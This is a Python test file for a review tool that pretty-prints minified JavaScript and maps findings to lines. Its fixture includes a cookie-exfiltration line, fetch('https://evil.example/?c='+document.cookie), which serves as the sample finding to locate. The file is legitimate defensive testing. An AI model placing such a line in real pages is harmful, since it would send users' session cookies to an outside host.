"""The pretty view of minified code: same tokens, one statement a line, findings mapped."""

from __future__ import annotations

from service.review.pretty import column_of, looks_minified, pretty, tokens

MINIFIED = (
    'var a=function(b){if(b>1){return"x;y{z}"}for(var i=0;i<3;i++){c(/a;b{/g)}return b/2};'
    "/* keep; me */fetch('https://evil.example/?c='+document.cookie);var t=`a${b;}c`;"
    + "x();"
    * 200
)


def test_pretty_printing_keeps_every_token_and_splits_no_string_regex_or_comment() -> None:
    laid = pretty(MINIFIED)
    assert [t for _, t in tokens(laid.text)] == [t for _, t in tokens(MINIFIED)]
    lines = laid.text.splitlines()
    assert any(line.strip() == 'return "x;y{z}"' for line in lines)
    assert any("c(/a;b{/g)" in line for line in lines)
    assert any("`a${b;}c`" in line for line in lines)
    assert len(lines) > 200


def test_a_finding_on_minified_line_one_opens_on_the_pretty_line_of_its_code() -> None:
    assert looks_minified(MINIFIED)
    column = column_of(MINIFIED, "fetch('https://evil.example/?c='+document.cookie)")
    line = pretty(MINIFIED).line_for(1, column)
    assert "fetch('https://evil.example/?c='" in pretty(MINIFIED).text.splitlines()[line - 1]


def test_the_map_follows_later_lines_of_a_file() -> None:
    src = "var a = 1;\n" + MINIFIED
    laid = pretty(src)
    line = laid.line_for(2, column_of(MINIFIED, "fetch("))
    assert "fetch(" in laid.text.splitlines()[line - 1]
